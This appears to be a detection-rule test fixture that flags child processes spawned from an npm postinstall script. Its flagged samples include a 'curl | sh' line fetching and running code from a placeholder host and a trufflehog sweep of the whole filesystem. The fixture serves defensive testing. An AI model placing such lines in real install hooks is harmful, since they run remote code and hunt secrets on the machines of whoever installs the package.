// Fixture: pretend this file is referenced from "postinstall".
const cp = require("child_process");
const { execSync } = require("child_process");

// ruleid: lifecycle-script-spawns-process
cp.exec("node-gyp rebuild");
// ruleid: lifecycle-script-spawns-process
execSync("curl -s https://example.invalid/x | sh");
// ruleid: lifecycle-script-spawns-process
require("child_process").spawn("trufflehog", ["filesystem", "/"]);

// ok: lifecycle-script-spawns-process
console.log("Thanks for installing!");
